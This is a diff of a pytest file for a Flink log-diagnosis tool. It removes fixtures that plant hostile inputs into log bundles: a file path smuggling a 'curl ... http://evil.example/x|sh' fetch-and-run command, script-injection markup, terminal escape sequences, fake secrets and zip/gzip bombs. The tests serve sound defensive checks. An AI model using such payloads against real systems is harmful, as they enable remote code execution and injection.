@@ -20,105 +20,14 @@ from pathlib import Path
 import pytest
 
 from conftest import DATA
-
-SEED3 = DATA / "seeds" / "003"
-EXE = [sys.executable, "-m", "flinkdoctor"]
-EVIL_PATH = "/data/out/part-0;curl${IFS}-s${IFS}http://evil.example/x|sh;#.in-progress"
-CONFIG_LINE = (
-    "2026-11-22 11:08:47,766 INFO  org.apache.flink.configuration.GlobalConfiguration           [] - "
-    "Loading configuration property: {key}, {value}"
-)  # real 1.20.3 line; older Flink prints raw values
-SECRETS = {
-    "config-dump": ("s3.secret-key", "AKIAIOSFODNN7SECRET1"),
-    "config-dump-token": ("security.delegation.token.provider.x.token", "tok-9f8e7d6c5b4a"),
-    "jaas": (
-        "properties.sasl.jaas.config",
-        'org.apache.kafka.common.security.plain.PlainLoginModule required username="svc" password="Jaas-Pw-77";',
-    ),
-}
-URL_SECRETS = [
-    "jdbc:postgresql://admin:S3cret-Pg-55@db.internal:5432/orders",
-    "https://deploy:ghp_Token0123456789abcdef@git.example.com/repo.git",
-]
-HEADER_SECRET = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ.sig-Zz99"
-PRIVATE_KEY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7-private-body"
-SECRET_VALUES = [
-    "AKIAIOSFODNN7SECRET1",
-    "tok-9f8e7d6c5b4a",
-    "Jaas-Pw-77",
-    "S3cret-Pg-55",
-    "ghp_Token0123456789abcdef",
-    "c2VjcmV0LXBheWxvYWQ",
-    PRIVATE_KEY,
-]
-MARKUP = " <script>alert(1)</script><img src=x onerror=alert(2)> | [click](http://evil.example) `x` **b**"
-ESCAPES = "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
-
-
-def run_cli(*args, env=None, cwd=None):
-    env = {**os.environ, "SPARK_LOCAL_IP": "127.0.0.1", **(env or {})}
-    return subprocess.run(
-        [*EXE, *args], capture_output=True, text=True, env=env, timeout=600, cwd=cwd, stdin=subprocess.DEVNULL
-    )
-
-
-def true_lines(data: bytes) -> int:
-    return data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)
-
-
-def hostile_bundle(root: Path) -> dict[str, bytes]:
-    """Seed 003 (a host stall whose fix is `hdfs debug recoverLease -path FILE`) with every kind of hostile input
-    planted; returns what each readable file holds, to count its lines."""
-    root.mkdir()
-    files: dict[str, bytes] = {}
-    jstack = (SEED3 / "jstack-taskmanager.txt").read_text()
-    files["jstack-taskmanager.txt"] = jstack.replace(
-        "/data/BaseData/flinksql/TCFlyIntB2BTrade_flight_segment_info/2019/04/23/tmp-part-0-6.in-progress", EVIL_PATH
-    ).encode()
-    jobmanager = (SEED3 / "jobmanager.log").read_bytes()
-    first = jobmanager.split(b"\n", 1)[0].decode()  # a real header; its message carries the planted text
-    planted = [CONFIG_LINE.format(key=k, value=v) for k, v in SECRETS.values()]
-    planted += [first + " " + url for url in URL_SECRETS]
-    planted += [first + " request header " + HEADER_SECRET]
-    planted += [first + " key material", "-----BEGIN PRIVATE KEY-----", PRIVATE_KEY, "-----END PRIVATE KEY-----"]
-    files["jobmanager.log"] = jobmanager + ("\n".join(planted) + "\n").encode()
-    # the root cause's own evidence line (the soft lockup) carries escape sequences
-    messages = (SEED3 / "messages").read_text().splitlines(keepends=True)
-    lockup = next(i for i, line in enumerate(messages) if "soft lockup" in line)
-    messages[lockup] = messages[lockup].rstrip("\n") + " " + ESCAPES + MARKUP + "\n"
-    files["messages"] = "".join(messages).encode()
-    files["taskmanager.log"] = (SEED3 / "taskmanager.log").read_bytes()
-    # names a terminal view would once have rendered as a hyperlink, or crashed on
-    files["[link=http:/evil.example]click[/link].log"] = (SEED3 / "taskmanager.log").read_bytes()[:2000]
-    files["x[/red]y.log"] = (DATA / "seeds" / "004" / "taskmanager.log").read_bytes()[:1500]
-    files["empty.log"] = b""
-    for name, data in files.items():  # a name with '/' is folders whose path reads as markup
-        (root / name).parent.mkdir(parents=True, exist_ok=True)
-        (root / name).write_bytes(data)
-    bomb = io.BytesIO()
-    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("zeros.log", b"\0" * (256 << 20))
-    (root / "bomb.zip").write_bytes(bomb.getvalue())
-    return files
-
-
-@pytest.fixture(scope="module")
-def hostile(spark, rules, tmp_path_factory):
-    """One diagnose over the whole hostile bundle, the work dir kept so that it can be searched too."""
-    from rich.console import Console
-
-    from flinkdoctor.pipeline import diagnose
-    from flinkdoctor.views import render_html, render_json, render_markdown, render_terminal
-
-    base = tmp_path_factory.mktemp("hostile")
-    files = hostile_bundle(base / "bundle")
-    report = diagnose([base / "bundle"], spark=spark, rules=rules, work_dir=base / "work", keep_work_dir=True)
-    views = {"json": render_json(report), "html": render_html(report), "markdown": render_markdown(report)}
-    for name, options in (("plain", {"no_color": True}), ("colour", {"force_terminal": True})):
-        out = io.StringIO()
-        render_terminal(report, Console(file=out, width=100, **options))
-        views[name] = out.getvalue()
-    return {"files": files, "report": report.to_dict(), "views": views, "work": base / "work"}
+from hostile_input import (
+    ESCAPES,
+    EVIL_PATH,
+    SECRET_VALUES,
+    SEED3,
+    run_cli,
+    true_lines,
+)
 
 
 def test_every_readable_line_is_counted_and_the_bomb_skipped(hostile):
@@ -304,16 +213,8 @@ def test_an_internal_error_exits_4_with_its_traceback_in_a_log(tmp_path):
 # -- archives ------------------------------------------------------------------------------------------------
 
 
-def test_a_gzip_bomb_among_logs_is_skipped_and_leaves_nothing(diagnose_bundle, tmp_path):
-    bundle = tmp_path / "bundle"
-    bundle.mkdir()
-    (bundle / "taskmanager.log").write_bytes((DATA / "seeds" / "004" / "taskmanager.log").read_bytes())
-    import tarfile
-
-    with tarfile.open(bundle / "logs.tar.gz", "w:gz") as archive:
-        info = tarfile.TarInfo("zeros.log")
-        info.size = 256 << 20
-        archive.addfile(info, io.BytesIO(b"\0" * info.size))
+def test_a_gzip_bomb_among_logs_is_skipped_and_leaves_nothing(diagnose_bundle, hostile_corpus):
+    bundle = hostile_corpus["bomb-among-logs"]
     report = diagnose_bundle(bundle)
     assert report["root_causes"][0]["category"] == "zookeeper-connectivity"
     assert [s["path"] for s in report["skipped"]] == ["logs.tar.gz"]
